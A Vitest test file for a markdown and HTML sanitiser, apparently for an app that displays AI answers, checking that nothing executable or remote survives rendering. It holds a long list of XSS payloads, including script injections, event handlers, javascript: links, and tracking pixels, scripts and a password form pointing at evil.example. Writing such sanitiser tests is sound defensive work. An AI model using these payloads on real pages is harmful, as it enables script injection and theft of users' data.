// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { toHtml } from './markdown'
import { safeAddress, sanitize } from './sanitize'

/** What a hostile or careless model could write. None of it may run, load, navigate, style or collect anything. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script>alert(1)//',
  '<<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png" alt="a cat">',
  '<img srcset="https://evil.example/pixel.png 1x">',
  '<img/src/onerror=alert(1)>',
  '![pixel](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x][ref]\n\n[ref]: https://evil.example/pixel.png',
  '<image src=x onerror=alert(1)>',
  '<picture><source srcset="https://evil.example/p.png"><img src=x></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name=password><button>Send</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select onchange=alert(1)><option>x</option></select>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<video src="https://evil.example/v.mp4" autoplay onplay=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<video poster="https://evil.example/p.png"></video>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preconnect" href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0">over the page</p>',
  '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](wails://wails/)',
  '<javascript:alert(1)>',
  '[x](https://evil.example "onmouseover=alert(1)")',
  '<a href="https://evil.example" target="_blank" ping="https://evil.example/ping" onclick="alert(1)">x</a>',
  '<a href="https://evil.example" download>x</a>',
  '<div onmouseover=alert(1)>x</div>',
  '<p id="app" name="go">clobber</p>',
  '<p class="scrim primary button">x</p>',
  '<p data-address="javascript:alert(1)" role="link" tabindex="0">x</p>',
  '<p contenteditable>x</p>',
  '<dialog open>x</dialog>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xss is="x" onclick=alert(1)>x</xss>',
  '<slot name="x"></slot><my-element></my-element>',
  '<portal src="https://evil.example"></portal>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p>\u0000<scr\u0000ipt>alert(1)</script></p>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '$<img src=x onerror=alert(1)>$',
  '$$\\href{javascript:alert(1)}{x}$$',
  '| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '- [ ] <input type=checkbox onclick=alert(1)>',
  '<details><summary><img src=x onerror=alert(1)></summary></details>',
]

const allowed =
  /^(A|P|BR|HR|H[1-6]|BLOCKQUOTE|UL|OL|LI|DL|DT|DD|STRONG|B|EM|I|U|S|DEL|INS|SUB|SUP|MARK|SMALL|KBD|CODE|PRE|SPAN|TABLE|THEAD|TBODY|TFOOT|TR|TH|TD|DETAILS|SUMMARY|ABBR|Q|CITE|VAR|SAMP)$/
const attributes = /^(class|start|align|colspan|rowspan|open|data-address|role|tabindex)$/

function inspect(html: string): void {
  const { body, head } = new DOMParser().parseFromString(html, 'text/html')
  expect(head.childElementCount, html).toBe(0)
  for (const element of body.querySelectorAll('*')) {
    expect(element.tagName, html).toMatch(allowed)
    for (const { name, value } of element.attributes) {
      expect(name, html).toMatch(attributes)
      if (name === 'data-address') expect(value, html).toMatch(/^(https?:\/\/|mailto:)/)
      if (name === 'class') expect(value, html).toMatch(/^((language|hljs)-\S+|math-(inline|block)|image-alt|\s)+$/)
      if (name === 'role') expect(element.hasAttribute('data-address'), html).toBe(true)
    }
  }
}

describe('nothing executable or remote survives', () => {
  it.each(payloads)('as an answer: %s', (payload) => inspect(toHtml(payload)))
  it.each(payloads)('as raw HTML: %s', (payload) => inspect(sanitize(payload)))
  it.each(payloads)("in a person's own message: %s", (payload) => inspect(toHtml(payload, 'own')))
  it.each(payloads)('sanitised twice it stays the same: %s', (payload) => {
    const once = toHtml(payload)
    expect(sanitize(once).replace(/ data-address="[^"]*"| role="link"| tabindex="0"/g, '')).toBe(
      once.replace(/ data-address="[^"]*"| role="link"| tabindex="0"/g, ''),
    )
  })
})

describe('links', () => {
  it('carry their address without anything that could be followed', () => {
    const html = toHtml('[the manual](https://example.org/a?b=1&c=2)')
    expect(html).toContain('data-address="https://example.org/a?b=1&amp;c=2"')
    expect(html).not.toContain('href')
  })

  it.each([
    ['https://example.org', 'https://example.org/'],
    ['HTTP://EXAMPLE.org/a b', 'http://example.org/a%20b'],
    ['mailto:someone@example.org', 'mailto:someone@example.org'],
    ['https://аpple.com/', 'https://xn--pple-43d.com/'],
    ['https://bank.example@evil.example/', null],
    ['javascript:alert(1)', null],
    ['//example.org', null],
    ['/local', null],
    ['#top', null],
    ['', null],
  ])('address %s is offered as %s', (href, address) => expect(safeAddress(href)).toBe(address))
})

describe('pictures', () => {
  it('leave their words', () => {
    expect(toHtml('![a red barn](https://example.org/barn.jpg)')).toContain('a red barn')
    expect(sanitize('<img src="https://example.org/barn.jpg" alt="a red barn">')).toBe(
      '<span class="image-alt">a red barn</span>',
    )
  })
})

describe('what answers need stays', () => {
  it.each([
    ['**bold** and *leaning*', '<strong>bold</strong> and <em>leaning</em>'],
    ['`code`', '<code>code</code>'],
    ['3. three', '<ol start="3">'],
    ['| a |\n| :-: |\n| b |', '<th align="center">a</th>'],
    ['H<sub>2</sub>O', 'H<sub>2</sub>O'],
    ['$a<b$', '<code class="math-inline">a&lt;b</code>'],
    ['It costs $5 and $6.', '<p>It costs $5 and $6.</p>'],
    ['- [x] done', '☑ done'],
  ])('%s', (markdown, html) => expect(toHtml(markdown)).toContain(html))

  it("a person's own angle brackets are shown as typed", () => {
    expect(toHtml('is <b>this</b> valid?', 'own')).toContain('&lt;b&gt;this&lt;/b&gt;')
  })
})
